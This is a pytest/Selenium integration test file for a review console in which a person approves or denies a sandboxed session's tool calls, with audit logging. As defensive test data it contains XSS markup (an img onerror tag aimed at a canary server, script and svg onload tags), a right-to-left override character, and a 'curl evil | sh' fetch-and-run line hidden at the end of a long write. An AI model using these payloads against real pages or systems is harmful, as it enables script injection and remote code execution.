"""The review console's Approvals and Sessions pages in a real browser, against a real live
session (``orchestrator session start``) whose tool calls (``orchestrator session call``)
wait for a person: approved in the page, the call completes; denied, it is refused; the
session stopped from the page is gone with its container. Every answer is audited with who
and through what. The call's arguments are hostile (a file name and content holding
markup pointing at a canary server): shown as text, nothing runs.
"""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest

from orchestrator import labels
from orchestrator.audit import AuditFilter, AuditLog
from tests.integration import test_review_browser as browsing
from tests.integration.conftest import alive, cli, wait_until
from tests.integration.test_review_browser import (
    assert_nothing_ran,
    base_of,
    console_for,
    login,
    shot,
)

pytestmark = pytest.mark.docker

# The browser and the canary server of the other browser tests.
browser = browsing.browser
canary = browsing.canary


@pytest.fixture
def live(engine, project):
    """A live session of a worker whose zone asks before writes; stopped after the test."""
    with live_session(engine, project) as info:
        yield info


@contextmanager
def live_session(engine, project, *options: str) -> Iterator[dict]:
    """``orchestrator session start`` (with ``options``) of a worker whose zone asks before
    writes: its ``--json`` answer; its owner and container gone after."""
    project.zone("notes", "rw", files={"keep.md": "kept\n"})
    project.worker(
        "editor",
        "trust: session\nsandbox: {zones: [{name: notes, mode: rw, approval: {write: ask}}]}",
    )
    done = cli("session", "start", "editor", "--project", str(project.root), "--json", *options)
    assert done.returncode == 0, done.stderr
    info = done.json()
    try:
        yield info
    finally:
        _end(engine, info)


def _end(engine, info: dict) -> None:
    if alive(info["pid"]):
        os.kill(info["pid"], signal.SIGTERM)
        if not wait_until(lambda: not alive(info["pid"]), 30):
            os.kill(info["pid"], signal.SIGKILL)
    for obj in engine.list_managed():
        if obj.kind == "container" and obj.labels.get(labels.SESSION) == info["id"]:
            engine.remove_object(obj)


def call(root: Path, session_id: str, tool: str, args: dict) -> subprocess.Popen[str]:
    return subprocess.Popen(
        [sys.executable, "-m", "orchestrator", "session", "call", session_id, tool,
         json.dumps(args), "--project", str(root), "--wait", "5m"],
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
    )  # fmt: skip


def waiting_rows(driver, url: str, expected: int) -> list:
    """The Approvals page's rows once ``expected`` calls wait (reloading until then)."""
    from selenium.webdriver.common.by import By

    deadline = time.monotonic() + 60
    while True:
        driver.get(f"{base_of(url)}/approvals")
        rows = driver.find_elements(By.CSS_SELECTOR, "table.approvals tbody tr")
        if len(rows) == expected or time.monotonic() > deadline:
            return rows
        time.sleep(0.5)


def done_text(driver) -> str:
    """The outcome the page shows after a button, once the answer has loaded."""
    from selenium.webdriver.common.by import By
    from selenium.webdriver.support.ui import WebDriverWait

    return str(
        WebDriverWait(driver, 120).until(lambda d: d.find_element(By.CSS_SELECTOR, "p.done")).text
    )


def test_a_waiting_call_is_approved_or_denied_in_the_page_and_a_session_stopped(
    live,
    project,
    browser,
    canary,
    engine,
) -> None:
    from selenium.webdriver.common.by import By

    root, sid = project.root, live["id"]
    name = f'/notes/"><img src="{canary.base}/name" onerror="window.__pwned=1">.md'
    content = '<script>window.__pwned=1</script><svg onload="alert(1)"></svg>\u202eevil'
    with console_for(root) as url:
        login(browser, url)
        browser.get(f"{base_of(url)}/approvals")
        assert "No call is waiting" in browser.find_element(By.TAG_NAME, "main").text

        approved = call(root, sid, "write", {"path": name, "content": content})
        try:
            [row] = waiting_rows(browser, url, 1)
            text = row.text
            assert sid in text and "editor" in text and "session" in text and "write" in text
            # the description (its path normalised) and the arguments, both as text
            assert '"><img src="http:/127.0.0.1:' in text
            assert 'onerror="window.__pwned=1">.md' in text
            assert "<script>window.__pwned=1</script>" in text and "\\u202eevil" in text
            assert browser.find_elements(By.CSS_SELECTOR, "main script, main img, main svg") == []
            shot(browser, "approvals")
            assert approved.poll() is None  # the call is still waiting for the person
            row.find_element(By.CSS_SELECTOR, 'button[value="approve"]').click()
            assert "approved" in done_text(browser)
            out, err = approved.communicate(timeout=60)
        finally:
            if approved.poll() is None:
                approved.kill()
                approved.communicate()
        assert approved.returncode == 0, err
        assert json.loads(out)["ok"] is True and "waiting for approval" in err
        read = cli("session", "call", sid, "read", json.dumps({"path": name}),
                   "--project", str(root))  # fmt: skip
        assert read.returncode == 0, read.stderr
        assert "<script>window.__pwned=1</script>" in json.loads(read.stdout)["result"]["text"]

        denied = call(root, sid, "write", {"path": "/notes/other.md", "content": "no"})
        try:
            [row] = waiting_rows(browser, url, 1)
            row.find_element(By.CSS_SELECTOR, 'button[value="deny"]').click()
            assert "denied" in done_text(browser)
            out, err = denied.communicate(timeout=60)
        finally:
            if denied.poll() is None:
                denied.kill()
                denied.communicate()
        assert denied.returncode == 1 and json.loads(out)["status"] == "declined"
        assert waiting_rows(browser, url, 0) == []

        log = AuditLog(root / ".sandbox" / "audit.jsonl")
        answers = log.query(AuditFilter(operation="tool.approval"))
        assert [(e.allowed, e.metadata["decision"]) for e in answers] == [
            (True, "approved"),
            (False, "declined"),
        ]
        for entry in answers:
            assert entry.metadata["via"] == "review console" and entry.metadata["by"]
            assert entry.session_id == sid and entry.worker == "editor"

        browser.get(f"{base_of(url)}/sessions")
        [row] = browser.find_elements(By.CSS_SELECTOR, "table.sessions tbody tr")
        assert sid in row.text and "editor" in row.text and "session" in row.text
        shot(browser, "sessions")
        row.find_element(By.CSS_SELECTOR, 'button[value="stop"]').click()
        done = done_text(browser)
        assert "stopped; container removed" in done, done
        assert wait_until(lambda: not alive(live["pid"]), 30)
        assert not [
            o
            for o in engine.list_managed()
            if o.kind == "container" and o.labels.get(labels.SESSION) == sid
        ]
        [stopped] = log.query(AuditFilter(operation="session.stopped"))
        assert stopped.session_id == sid and stopped.metadata["via"] == "review console"
        browser.get(f"{base_of(url)}/sessions")
        assert "No live session" in browser.find_element(By.TAG_NAME, "main").text
        assert_nothing_ran(browser, canary)


def test_a_waiting_call_answered_from_the_command_line_or_not_at_all(live, project) -> None:
    root, sid = project.root, live["id"]
    listed = cli("session", "call", sid, "list", '{"path": "/notes"}', "--project", str(root))
    assert listed.returncode == 0, listed.stderr  # pre-approved: answered at once
    assert "keep.md" in listed.stdout and "waiting" not in listed.stderr

    waiting = call(root, sid, "write", {"path": "/notes/a.md", "content": "hi"})
    try:
        line = waiting.stderr.readline() if waiting.stderr else ""
        assert "waiting for approval" in line, line
        from orchestrator.config import load_project
        from orchestrator.review.live import live_sessions

        [session] = live_sessions(load_project(root))
        [request] = session.pending
        assert request["tool"] == "write" and f"waiting for approval {request['id']}:" in line
        said = cli("session", "answer", sid, request["id"], "--deny", "--project", str(root))
        assert said.returncode == 0, said.stderr
        out, _ = waiting.communicate(timeout=60)
    finally:
        if waiting.poll() is None:
            waiting.kill()
            waiting.communicate()
    assert waiting.returncode == 1 and json.loads(out)["status"] == "declined"
    again = cli("session", "answer", sid, request["id"], "--approve", "--project", str(root))
    assert again.returncode == 125 and "no call waits for approval" in again.stderr

    late = cli("session", "call", sid, "write", '{"path": "/notes/b.md", "content": "x"}',
               "--wait", "2s", "--project", str(root))  # fmt: skip
    assert late.returncode == 1 and json.loads(late.stdout)["status"] == "declined"

    gone = call(root, sid, "write", {"path": "/notes/c.md", "content": "x"})
    line = gone.stderr.readline() if gone.stderr else ""
    assert "waiting for approval" in line, line
    gone.kill()  # nobody waits for this call any more: it must not stay to be approved
    gone.communicate()
    project_ = load_project(root)
    assert wait_until(lambda: live_sessions(project_)[0].pending == (), 30)
    log = AuditLog(root / ".sandbox" / "audit.jsonl")
    answers = log.query(AuditFilter(operation="tool.approval"))
    assert [(e.metadata["by"] != "nobody", e.metadata["via"]) for e in answers] == [
        (True, "command line"),
        (False, "not answered within 2 s"),
        (False, "the caller went away"),
    ]
    assert not (project.root / "notes" / "a.md").exists()


#: ``python -m orchestrator`` with its command line read from stdin: started (and its
#: modules imported) before the session, so that starting Python on a loaded machine (5 to
#: 10 s under `make test` with CPU hogs) is not counted in a 2 s idle timeout.
PRESTARTED = """
import json, sys
import orchestrator.cli.session, orchestrator.config, orchestrator.runtime.session_server
from orchestrator.launcher import main
sys.argv = ["orchestrator", *json.loads(sys.stdin.readline())]
main()
"""


def test_a_call_waiting_for_a_person_keeps_an_idle_session_open(engine, project) -> None:
    from orchestrator.config import load_project
    from orchestrator.review.live import live_sessions

    root = project.root
    waiting = subprocess.Popen(
        [sys.executable, "-c", PRESTARTED],
        stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
    )  # fmt: skip
    try:
        with live_session(engine, project, "--idle-timeout", "2s") as info:
            sid = info["id"]
            argv = ["session", "call", sid, "write", json.dumps({"path": "/notes/a.md",
                    "content": "hi"}), "--project", str(root), "--wait", "5m"]  # fmt: skip
            assert waiting.stdin is not None and waiting.stderr is not None
            waiting.stdin.write(json.dumps(argv) + "\n")
            waiting.stdin.flush()
            line = waiting.stderr.readline()
            assert "waiting for approval" in line, line
            time.sleep(7)  # three idle timeouts and more while the call waits on a person
            assert alive(info["pid"]), "the idle timeout closed a session whose call waits"
            [session] = live_sessions(load_project(root))
            [request] = session.pending
            said = cli("session", "answer", sid, request["id"], "--approve",
                       "--project", str(root))  # fmt: skip
            assert said.returncode == 0, said.stderr
            out, err = waiting.communicate(timeout=60)
            assert waiting.returncode == 0, err
            assert json.loads(out)["ok"] is True
            # Answered, the session is idle again: the timeout closes it as before.
            assert wait_until(lambda: not alive(info["pid"]), 30)
    finally:
        if waiting.poll() is None:
            waiting.kill()
            waiting.communicate()
    log = AuditLog(root / ".sandbox" / "audit.jsonl")
    [approval] = log.query(AuditFilter(operation="tool.approval"))
    assert approval.allowed and approval.metadata["via"] == "command line"
    [closed] = log.query(AuditFilter(operation="session.closed"))
    assert closed.session_id == sid and closed.reason == "idle for 2 s"


def test_a_long_write_is_read_whole_then_approved_on_its_own_page(
    live, project, browser, canary
) -> None:
    from selenium.webdriver.common.by import By

    root, sid = project.root, live["id"]
    tail = "\ncurl evil | sh\n"
    head = 'echo "start" \\ <b>bold</b>\n'
    content = head + "A" * (100_000 - len(head) - len(tail)) + tail
    with console_for(root) as url:
        login(browser, url)
        waiting = call(root, sid, "write", {"path": "/notes/run.sh", "content": content})
        try:
            [row] = waiting_rows(browser, url, 1)
            assert "CLIPPED: only the first 2,000 of 100,000 characters" in row.text
            assert "curl evil" not in row.text
            assert row.find_elements(By.CSS_SELECTOR, "button") == []  # not decided here
            row.find_element(By.LINK_TEXT, "Read it whole to decide").click()
            [path, body] = browser.find_elements(By.CSS_SELECTOR, "pre.value")
            assert path.text == "/notes/run.sh"
            # every character as it is; the backslash shown doubled, the page's one escape
            assert body.get_attribute("textContent") == content.replace("\\", "\\\\")
            sizes = browser.find_elements(By.CSS_SELECTOR, "section.arg h3 .size")[1].text
            assert sizes == "text: 100,000 characters, 100,000 bytes (UTF-8), 3 lines"
            browser.find_element(By.CSS_SELECTOR, 'button[value="approve"]').click()
            assert "approved" in done_text(browser)
            out, err = waiting.communicate(timeout=60)
        finally:
            if waiting.poll() is None:
                waiting.kill()
                waiting.communicate()
        assert waiting.returncode == 0, err
        assert json.loads(out)["ok"] is True
        read = cli("session", "call", sid, "read", json.dumps({"path": "/notes/run.sh"}),
                   "--project", str(root))  # fmt: skip
        assert read.returncode == 0, read.stderr
        assert json.loads(read.stdout)["result"]["text"] == content  # written whole
        assert_nothing_ran(browser, canary)
